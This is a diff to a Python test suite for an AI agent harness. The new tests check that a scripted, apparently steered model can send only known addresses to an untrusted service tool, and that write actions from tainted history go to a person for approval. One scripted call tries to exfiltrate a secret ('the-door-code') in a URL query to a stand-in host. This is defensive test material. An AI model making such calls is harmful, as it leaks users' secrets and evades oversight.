@@ -12,6 +12,7 @@ from core.integrations.masking import KNOWN, MASK, KnownSecrets
 from core.memory.clock import START
 from core.memory.model import ScriptedModel, calls, says
 from core.models import ApprovalPolicy, Exchange, StepState, Task, Upstream
+from core.ports.tool import Effect
 from tests.fakes.agent_bench import Bench, agent, task
 from tests.fakes.toy_tools import ToyTool, mail, page
 
@@ -20,6 +21,8 @@ SECRET = "invented-service-key"
 
 class Fetching(ToyTool):
     """Asks for what its words name, blank by blank."""
+
+    verbatim = True
 
     def reaches(self, arguments: Any) -> tuple[str, ...]:
         return tuple(arguments.words.split())
@@ -182,3 +185,28 @@ async def test_a_name_that_a_steered_model_made_up_is_not_recorded() -> None:
     [record] = bench.denied()
     assert record["reason"] == "unknown"
     assert "7431" not in record["tool"]
+
+
+async def test_a_services_tool_gets_known_addresses_only_and_vouches_for_none() -> None:
+    service = Fetching("ask_service", untrusted=True, gives="see https://service.example/x")
+    service.verbatim = False
+    pages = reader("[next](https://linked.example/next)")
+    turns = [
+        reads(FIRST),
+        calls(("ask_service", {"words": "https://linked.example/next"})),
+        calls(("ask_service", {"words": "https://linked.example/?d=the-door-code"})),
+        reads("https://service.example/x"),
+        says("Done."),
+    ]
+    bench = Bench(ScriptedModel(*turns), pages, service)
+    await bench.run(agent("read_page", "ask_service"), task(f"read {FIRST}"))
+    assert [made["words"] for made, _ in service.made] == ["https://linked.example/next"]
+    assert len(pages.made) == 1
+
+
+async def test_what_changes_the_world_is_judged_by_a_person_and_not_by_its_addresses() -> None:
+    posts = Fetching("post", effect=Effect.WRITE)
+    wish = calls(("post", {"words": "https://new.example/x"}))
+    bench = Bench(ScriptedModel(wish, says("No.")), posts)
+    await bench.run(agent("post"), task("go on", history=TAINTED))
+    assert len(bench.person.asked) == 1
